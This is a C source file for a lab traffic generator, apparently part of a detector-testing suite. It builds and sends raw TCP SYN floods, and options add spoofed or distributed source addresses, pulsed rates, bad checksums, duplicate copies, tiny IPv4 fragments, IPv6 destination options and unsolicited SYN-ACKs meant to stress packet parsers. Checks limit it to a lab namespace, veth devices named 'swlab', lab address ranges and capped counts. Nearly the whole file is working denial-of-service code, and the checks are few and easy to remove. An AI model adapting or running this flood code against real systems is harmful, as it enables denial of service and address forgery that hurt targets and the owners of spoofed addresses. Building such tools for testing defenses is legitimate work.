/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * SYNs that nobody will finish, evenly spaced at a given rate or in pulses, from
 * addresses that do not answer or, forged, from those of live hosts, and in the
 * shapes that make a reader of packets fail. For the lab only: it runs in a network namespace of its own, on a veth the
 * lab named, towards the lab's addresses, and always with a limit of packets and of time. trafgen --rate sends each
 * second's share in one burst and --gap falls short by a tenth to a third (measured), which hides what a detector sees
 * within the second.
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/ethtool.h>
#include <linux/if_packet.h>
#include <linux/sockios.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "common.h"

enum {
        PACKETS_MAX = 5000000,
        SECONDS_MAX = 120,
        RATE_MAX = 500000,
        BATCH = 64,
        COPIES_MAX = 6, /* as often as TCP sends one */
        TICK_US = 1000, /* above 1,000/s the SYNs of one millisecond go together */
        FRAME_MAX = 384,
        RANGES_MAX = 64,
        OPTIONS_MAX = 256, /* of IPv6, in bytes */
        CUT = 8,           /* of TCP in the first of two fragments: the ports, and no flags */
};

#define DEVICE_PREFIX "swlab"

enum pattern { SPOOFED, DISTRIBUTED, ONE, RANGES };

struct settings {
        const char *device;
        struct lab_endpoint to;
        uint8_t to_ethernet[ETH_ALEN];
        bool has_ethernet;
        enum pattern pattern;
        uint64_t sources; /* of the distributed pattern */
        struct lab_range ranges[RANGES_MAX];
        unsigned range_count;
        double per_s;
        uint64_t on_us, every_us; /* pulses; equal: no pause */
        bool bad_checksum, fragments, syn_ack;
        uint64_t copies; /* of each SYN */
        size_t options_length;
        uint64_t packets, duration_us, seed;
};

struct frame {
        uint32_t length;
        uint8_t bytes[FRAME_MAX];
};

struct flood {
        const struct settings *settings;
        int fd;
        uint64_t rng, built, sent, send_failed, late_max_us;
        struct frame template;
        size_t tcp_offset;
};

/* A device the lab made: its name, and a veth, which leads to another
 * namespace and to no wire. */
static void require_lab_device(int fd, const char *name) {
        struct ethtool_drvinfo info = { .cmd = ETHTOOL_GDRVINFO };
        struct ifreq request = { .ifr_data = (void *) &info };

        if (strncmp(name, DEVICE_PREFIX, strlen(DEVICE_PREFIX)) != 0 || strlen(name) >= IFNAMSIZ)
                lab_usage("refusing a device not named " DEVICE_PREFIX "...: %s", name);
        memcpy(request.ifr_name, name, strlen(name) + 1);
        if (ioctl(fd, SIOCETHTOOL, &request) < 0)
                lab_die("%s: driver", name);
        if (strcmp(info.driver, "veth") != 0)
                lab_usage("refusing %s: its driver is %s, not veth", name, info.driver);
}

/* 10.77.0.0/16 and fd77::/16 are the lab's. */
static void require_lab_target(const struct lab_endpoint *e) {
        const struct sockaddr_in *in4 = (const struct sockaddr_in *) &e->address;
        const struct sockaddr_in6 *in6 = (const struct sockaddr_in6 *) &e->address;

        if (e->address.ss_family == AF_INET ? ntohl(in4->sin_addr.s_addr) >> 16 != 0x0a4d
                                            : in6->sin6_addr.s6_addr[0] != 0xfd || in6->sin6_addr.s6_addr[1] != 0x77)
                lab_usage("refusing a target outside 10.77.0.0/16 and fd77::/16");
}

static int open_device(const char *name) {
        struct sockaddr_ll address = { .sll_family = AF_PACKET };
        int one = 1, fd;

        fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
        if (fd < 0)
                lab_die("AF_PACKET");
        require_lab_device(fd, name);
        address.sll_ifindex = (int) if_nametoindex(name);
        if (bind(fd, (struct sockaddr *) &address, sizeof(address)) < 0)
                lab_die("%s", name);
        if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) < 0)
                lab_die("%s: PACKET_QDISC_BYPASS", name);
        return fd;
}

static uint32_t sum16(const void *data, size_t length, uint32_t sum) {
        const uint8_t *p = data;

        for (size_t i = 0; i + 1 < length; i += 2)
                sum += (uint32_t) (p[i] << 8 | p[i + 1]);
        return sum;
}

static uint16_t checksum(uint32_t sum) {
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return htons((uint16_t) ~sum);
}

/* Unicast addresses that are neither the lab's own nor dropped as martians. */
static uint32_t random_ipv4(uint64_t *rng) {
        for (;;) {
                uint32_t a = (uint32_t) (lab_random(rng) >> 32);
                uint32_t top = a >> 24;

                if (top == 0 || top == 10 || top == 127 || top >= 224 || a >> 22 == 0x191 || a >> 16 == 0xa9fe ||
                    a >> 20 == 0xac1 || a >> 16 == 0xc0a8)
                        continue;
                return a;
        }
}

static void source_in_ranges(struct flood *f, uint8_t ret[16]) {
        const struct settings *s = f->settings;
        uint64_t random = lab_random(&f->rng);

        lab_range_address(&s->ranges[random % s->range_count], random >> 8, ret);
}

static void source_ipv4(struct flood *f, uint8_t ret[4]) {
        const struct settings *s = f->settings;
        uint32_t a = 0;
        uint64_t rng;

        switch (s->pattern) {
        case SPOOFED:
                a = random_ipv4(&f->rng);
                break;
        case DISTRIBUTED:
                /* The nth address of a fixed list that need not be stored. */
                rng = (lab_random(&f->rng) % s->sources + 1) * UINT64_C(0x9e3779b97f4a7c15);
                a = random_ipv4(&rng);
                break;
        case ONE:
                a = 0xc6336401; /* 198.51.100.1 */
                break;
        case RANGES: {
                uint8_t bytes[16];

                source_in_ranges(f, bytes);
                memcpy(ret, bytes, 4);
                return;
        }
        }
        a = htonl(a);
        memcpy(ret, &a, 4);
}

static void source_ipv6(struct flood *f, uint8_t ret[16]) {
        const struct settings *s = f->settings;
        uint64_t a = 0, b = 0;

        switch (s->pattern) {
        case SPOOFED: /* 2400::/12, as if from all over one registry's region */
                a = UINT64_C(0x24) << 56 | lab_random(&f->rng) >> 12;
                b = lab_random(&f->rng);
                break;
        case DISTRIBUTED:
                a = UINT64_C(0x24) << 56 | (lab_random(&f->rng) % s->sources) << 16;
                b = 1;
                break;
        case ONE:
                a = UINT64_C(0x20010db8) << 32 | 0xbad0000;
                b = 1;
                break;
        case RANGES:
                source_in_ranges(f, ret);
                return;
        }
        for (unsigned i = 0; i < 8; i++) {
                ret[i] = (uint8_t) (a >> (56 - 8 * i));
                ret[8 + i] = (uint8_t) (b >> (56 - 8 * i));
        }
}

/* What a Linux client sends, timestamps left out; every field a flood varies is
 * filled in per packet. */
static const uint8_t tcp_options[] = { 2, 4, 0x05, 0xb4, 1, 3, 3, 7 };
enum { TCP_LENGTH = sizeof(struct tcphdr) + sizeof(tcp_options) };

/* One option that no host knows and none minds (RFC 4727): PadN is held to seven bytes. */
static uint8_t *put_options(uint8_t *p, size_t length) {
        uint8_t head[] = { IPPROTO_TCP, (uint8_t) (length / 8 - 1), 0x1e, (uint8_t) (length - 4) };

        if (length == 0)
                return p;
        memset(p, 0, length);
        memcpy(p, head, sizeof(head));
        return p + length;
}

static uint8_t *put_ipv6(uint8_t *p, const struct settings *s) {
        const struct sockaddr_in6 *to = (const struct sockaddr_in6 *) &s->to.address;
        struct ip6_hdr ip = { .ip6_flow = htonl(6u << 28),
                              .ip6_hlim = 57,
                              .ip6_plen = htons((uint16_t) (s->options_length + TCP_LENGTH)),
                              .ip6_nxt = s->options_length ? IPPROTO_DSTOPTS : IPPROTO_TCP,
                              .ip6_dst = to->sin6_addr };

        memcpy(p, &ip, sizeof(ip));
        return put_options(p + sizeof(ip), s->options_length);
}

static uint8_t *put_ipv4(uint8_t *p, const struct settings *s) {
        const struct sockaddr_in *to = (const struct sockaddr_in *) &s->to.address;
        struct iphdr ip = { .version = 4,
                            .ihl = 5,
                            .ttl = 57,
                            .protocol = IPPROTO_TCP,
                            .tot_len = htons((uint16_t) (sizeof(ip) + TCP_LENGTH)),
                            .daddr = to->sin_addr.s_addr };

        memcpy(p, &ip, sizeof(ip));
        return p + sizeof(ip);
}

static void build_template(struct flood *f) {
        const struct settings *s = f->settings;
        uint8_t *p = f->template.bytes;
        bool v6 = s->to.address.ss_family == AF_INET6;
        struct ether_header ethernet = { .ether_type = htons(v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP) };
        struct tcphdr tcp = { .doff = TCP_LENGTH / 4,
                              .syn = 1,
                              .ack = s->syn_ack,
                              .ack_seq = htonl(s->syn_ack),
                              .window = htons(64240) };
        /* At the same place in both families' addresses. */
        uint16_t port = ((const struct sockaddr_in *) &s->to.address)->sin_port;

        if (s->syn_ack)
                tcp.source = port;
        else
                tcp.dest = port;
        memcpy(ethernet.ether_dhost, s->to_ethernet, ETH_ALEN);
        memcpy(ethernet.ether_shost, (uint8_t[]) { 2, 0, 0, 0, 0, 0xaa }, ETH_ALEN);
        memcpy(p, &ethernet, sizeof(ethernet));
        p += sizeof(ethernet);
        p = v6 ? put_ipv6(p, s) : put_ipv4(p, s);
        f->tcp_offset = (size_t) (p - f->template.bytes);
        memcpy(p, &tcp, sizeof(tcp));
        memcpy(p + sizeof(tcp), tcp_options, sizeof(tcp_options));
        f->template.length = (uint32_t) (f->tcp_offset + TCP_LENGTH);
}

static void write_ipv4_checksum(uint8_t *ip) {
        uint16_t sum = 0;

        memcpy(ip + offsetof(struct iphdr, check), &sum, sizeof(sum));
        sum = checksum(sum16(ip, sizeof(struct iphdr), 0));
        memcpy(ip + offsetof(struct iphdr, check), &sum, sizeof(sum));
}

static void build_frame(struct flood *f, struct frame *ret) {
        const struct settings *s = f->settings;
        bool v6 = s->to.address.ss_family == AF_INET6;
        uint8_t *ip = ret->bytes + sizeof(struct ether_header), *tcp = ret->bytes + f->tcp_offset;
        uint64_t random = lab_random(&f->rng);
        uint16_t port = htons((uint16_t) (1024 + random % 64512)), sum;
        uint32_t sequence = (uint32_t) (random >> 32);

        *ret = f->template;
        memcpy(tcp + (s->syn_ack ? offsetof(struct tcphdr, dest) : offsetof(struct tcphdr, source)), &port,
               sizeof(port));
        memcpy(tcp + offsetof(struct tcphdr, seq), &sequence, sizeof(sequence));
        if (v6) {
                source_ipv6(f, ip + offsetof(struct ip6_hdr, ip6_src));
                sum = checksum(sum16(ip + offsetof(struct ip6_hdr, ip6_src), 32,
                                     sum16(tcp, TCP_LENGTH, TCP_LENGTH + IPPROTO_TCP)));
        } else {
                source_ipv4(f, ip + offsetof(struct iphdr, saddr));
                write_ipv4_checksum(ip);
                sum = checksum(
                        sum16(ip + offsetof(struct iphdr, saddr), 8, sum16(tcp, TCP_LENGTH, TCP_LENGTH + IPPROTO_TCP)));
        }
        if (s->bad_checksum)
                sum ^= 0x5555;
        memcpy(tcp + offsetof(struct tcphdr, check), &sum, sizeof(sum));
}

static void write_fragment(struct frame *f, size_t tcp_length, uint16_t id, uint16_t offset) {
        uint8_t *p = f->bytes + sizeof(struct ether_header);
        struct iphdr ip;

        memcpy(&ip, p, sizeof(ip));
        ip.tot_len = htons((uint16_t) (sizeof(ip) + tcp_length));
        ip.id = id;
        ip.frag_off = htons(offset);
        memcpy(p, &ip, sizeof(ip));
        write_ipv4_checksum(p);
        f->length = (uint32_t) (sizeof(struct ether_header) + sizeof(ip) + tcp_length);
}

static void split_frame(struct flood *f, struct frame pair[2]) {
        uint8_t *tcp = pair[1].bytes + f->tcp_offset;
        uint16_t id = (uint16_t) (1 + f->built % UINT16_MAX);

        pair[1] = pair[0];
        memmove(tcp, tcp + CUT, TCP_LENGTH - CUT);
        write_fragment(&pair[0], CUT, id, IP_MF);
        write_fragment(&pair[1], TCP_LENGTH - CUT, id, CUT / 8);
}

/* One SYN as the frames that it takes; their number. */
static unsigned build_syn(struct flood *f, struct frame ret[COPIES_MAX]) {
        const struct settings *s = f->settings;

        build_frame(f, &ret[0]);
        f->built++;
        if (s->fragments) {
                split_frame(f, ret);
                return 2;
        }
        for (unsigned i = 1; i < s->copies; i++)
                ret[i] = ret[0];
        return (unsigned) s->copies;
}

static void send_syns(struct flood *f, unsigned syns) {
        struct frame frames[COPIES_MAX * BATCH];
        struct iovec vectors[COPIES_MAX * BATCH];
        struct mmsghdr messages[COPIES_MAX * BATCH];
        unsigned count = 0, done = 0;

        for (unsigned i = 0; i < syns; i++)
                count += build_syn(f, &frames[count]);
        for (unsigned i = 0; i < count; i++) {
                vectors[i] = (struct iovec) { frames[i].bytes, frames[i].length };
                messages[i].msg_hdr = (struct msghdr) { .msg_iov = &vectors[i], .msg_iovlen = 1 };
        }
        while (done < count && lab_running()) {
                int n = sendmmsg(f->fd, messages + done, count - done, 0);

                if (n > 0) {
                        done += (unsigned) n;
                } else if (errno == ENOBUFS || errno == EAGAIN) {
                        f->send_failed++;
                } else if (errno != EINTR) {
                        lab_die("send");
                }
        }
        f->sent += count ? done * syns / count : 0;
}

/* Time spent in pulses within so much time, and the time at which so much was. */
static uint64_t pulsing_us(const struct settings *s, uint64_t elapsed_us) {
        uint64_t within = elapsed_us % s->every_us;

        return elapsed_us / s->every_us * s->on_us + (within < s->on_us ? within : s->on_us);
}

static uint64_t elapsed_us(const struct settings *s, uint64_t pulsing_us) {
        return pulsing_us / s->on_us * s->every_us + pulsing_us % s->on_us;
}

static void run(struct flood *f) {
        const struct settings *s = f->settings;
        uint64_t start = lab_now_us(), stop = start + s->duration_us;

        printf("{\"program\":\"synflood\",\"what\":\"start\",\"realtime_us\":%llu}\n",
               (unsigned long long) lab_realtime_us());
        fflush(stdout);
        while (lab_running() && f->sent < s->packets) {
                uint64_t now = lab_now_us(), due, next;

                if (now >= stop)
                        break;
                due = 1 + (uint64_t) ((double) pulsing_us(s, now - start) * s->per_s / 1e6);
                if (due > s->packets)
                        due = s->packets;
                /* A host that was held up sends late what it owes, a batch at a time. */
                if (due > f->sent) {
                        uint64_t owed = due - f->sent;

                        send_syns(f, owed < BATCH ? (unsigned) owed : BATCH);
                        if (owed > BATCH)
                                continue;
                }
                next = start + elapsed_us(s, (uint64_t) ((double) f->sent * 1e6 / s->per_s));
                if (next < now + TICK_US && s->per_s > 1e6 / (double) TICK_US)
                        next = now + TICK_US;
                if (next > stop)
                        next = stop;
                lab_sleep_until_us(next);
                now = lab_now_us();
                if (now > next && now - next > f->late_max_us)
                        f->late_max_us = now - next;
        }
        double seconds = (double) (lab_now_us() - start) / 1e6;

        printf("{\"program\":\"synflood\",\"what\":\"end\",\"realtime_us\":%llu,\"sent\":%llu,"
               "\"seconds\":%.3f,\"per_s\":%.1f,\"late_max_ms\":%.1f,\"retried\":%llu}\n",
               (unsigned long long) lab_realtime_us(), (unsigned long long) f->sent, seconds,
               (double) f->sent / seconds, (double) f->late_max_us / 1e3, (unsigned long long) f->send_failed);
}

static void parse_ethernet(const char *text, uint8_t ret[ETH_ALEN]) {
        unsigned b[ETH_ALEN];
        char rest;

        if (sscanf(text, "%2x:%2x:%2x:%2x:%2x:%2x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5], &rest) != ETH_ALEN)
                lab_usage("--ethernet: %s is no hardware address", text);
        for (unsigned i = 0; i < ETH_ALEN; i++)
                ret[i] = (uint8_t) b[i];
}

static void parse_ranges(struct settings *s, const char *text) {
        char list[1024], *rest = list, *one;

        if (strlen(text) >= sizeof(list))
                lab_usage("--from: too long a list");
        memcpy(list, text, strlen(text) + 1);
        s->pattern = RANGES;
        while ((one = strsep(&rest, ","))) {
                if (s->range_count == RANGES_MAX)
                        lab_usage("--from: at most %d ranges", RANGES_MAX);
                s->ranges[s->range_count++] = lab_range_parse("--from", one);
        }
}

static void parse_from(struct settings *s, const char *text) {
        if (strcmp(text, "spoofed") == 0) {
                s->pattern = SPOOFED;
        } else if (strcmp(text, "one") == 0) {
                s->pattern = ONE;
        } else if (strchr(text, '/')) {
                parse_ranges(s, text);
        } else {
                s->pattern = DISTRIBUTED;
                s->sources = lab_integer("--from", text, 1, 1 << 24);
        }
}

static void parse_pulse(struct settings *s, const char *text) {
        const char *slash = strchr(text, '/');
        char on[32];

        if (!slash || (size_t) (slash - text) >= sizeof(on))
                lab_usage("--pulse: %s is not TIME/TIME", text);
        memcpy(on, text, (size_t) (slash - text));
        on[slash - text] = 0;
        s->on_us = lab_duration_us("--pulse", on);
        s->every_us = lab_duration_us("--pulse", slash + 1);
        if (s->on_us == 0 || s->on_us > s->every_us)
                lab_usage("--pulse: %s: the first is not 0 and not longer than the second", text);
}

static const char help[] = "synflood --device swlab... --ethernet ADDRESS --to ADDRESS:PORT --rate PER_SECOND\n"
                           "         --packets N --duration TIME [--from spoofed|one|N|RANGE,...] [--seed N]\n"
                           "         [--pulse TIME/TIME] [--bad-checksum] [--copies N] [--fragments] [--options N]\n"
                           "         [--syn-ack]\n"
                           "--from: all over the address space, one source, N sources that keep coming, or ranges\n"
                           "such as 192.0.2.9/32,198.51.100.0/24; it stops at --packets SYNs or --duration,\n"
                           "whichever comes first; --pulse: so long at the rate in each so long; --copies: each SYN\n"
                           "so many times at once; --fragments: each in two, 8 bytes of TCP in the first;\n"
                           "--options: behind N bytes of IPv6 destination options; --syn-ack: answers instead,\n"
                           "from the port of --to, to SYNs that nobody sent";

static const struct option long_options[] = {
        { "device", required_argument, NULL, 'i' },  { "ethernet", required_argument, NULL, 'e' },
        { "to", required_argument, NULL, 't' },      { "rate", required_argument, NULL, 'r' },
        { "packets", required_argument, NULL, 'n' }, { "duration", required_argument, NULL, 'd' },
        { "from", required_argument, NULL, 'f' },    { "seed", required_argument, NULL, 's' },
        { "pulse", required_argument, NULL, 'p' },   { "bad-checksum", no_argument, NULL, 'c' },
        { "copies", required_argument, NULL, '2' },  { "fragments", no_argument, NULL, 'F' },
        { "options", required_argument, NULL, 'o' }, { "syn-ack", no_argument, NULL, 'a' },
        { "help", no_argument, NULL, 'h' },          { 0 },
};

static void parse_option(struct settings *s, int c) {
        switch (c) {
        case 'i':
                s->device = optarg;
                break;
        case 'e':
                parse_ethernet(optarg, s->to_ethernet);
                s->has_ethernet = true;
                break;
        case 't':
                s->to = lab_endpoint_parse("--to", optarg);
                break;
        case 'r':
                s->per_s = lab_number("--rate", optarg, 0.1, RATE_MAX);
                break;
        case 'n':
                s->packets = lab_integer("--packets", optarg, 1, PACKETS_MAX);
                break;
        case 'd':
                s->duration_us = lab_duration_us("--duration", optarg);
                break;
        case 'f':
                parse_from(s, optarg);
                break;
        case 's':
                s->seed = lab_integer("--seed", optarg, 1, UINT64_MAX);
                break;
        case 'p':
                parse_pulse(s, optarg);
                break;
        case 'c':
                s->bad_checksum = true;
                break;
        case '2':
                s->copies = lab_integer("--copies", optarg, 1, COPIES_MAX);
                break;
        case 'F':
                s->fragments = true;
                break;
        case 'o':
                s->options_length = lab_integer("--options", optarg, 8, OPTIONS_MAX);
                break;
        case 'a':
                s->syn_ack = true;
                break;
        case 'h':
                puts(help);
                exit(0);
        default:
                exit(2);
        }
}

static void check(const struct settings *s) {
        bool v6 = s->to.address.ss_family == AF_INET6;

        if (!s->device || !s->has_ethernet || !s->to.length || s->per_s <= 0 || !s->packets)
                lab_usage("an option is missing (see --help)");
        if (s->duration_us == 0 || s->duration_us > SECONDS_MAX * UINT64_C(1000000))
                lab_usage("--duration: at most %d s", SECONDS_MAX);
        for (unsigned i = 0; i < s->range_count; i++)
                if (s->ranges[i].family != s->to.address.ss_family)
                        lab_usage("--from and --to are of different families");
        if (v6 ? s->fragments : s->options_length > 0)
                lab_usage("--fragments is for IPv4, --options for IPv6");
        if (s->options_length % 8 != 0)
                lab_usage("--options: a multiple of 8");
        if (s->fragments && s->copies > 1)
                lab_usage("--fragments or --copies, not both");
}

static struct settings parse(int argc, char **argv) {
        struct settings s = { .seed = 1, .copies = 1, .on_us = 1, .every_us = 1 };
        int c;

        while ((c = getopt_long(argc, argv, "h", long_options, NULL)) >= 0)
                parse_option(&s, c);
        if (optind != argc)
                lab_usage("%s: what is that? (see --help)", argv[optind]);
        check(&s);
        return s;
}

int main(int argc, char **argv) {
        struct settings s = parse(argc, argv);
        struct flood f = { .settings = &s, .rng = s.seed };

        lab_require_namespace();
        require_lab_target(&s.to);
        lab_catch_signals();
        f.fd = open_device(s.device);
        build_template(&f);
        run(&f);
        return 0;
}
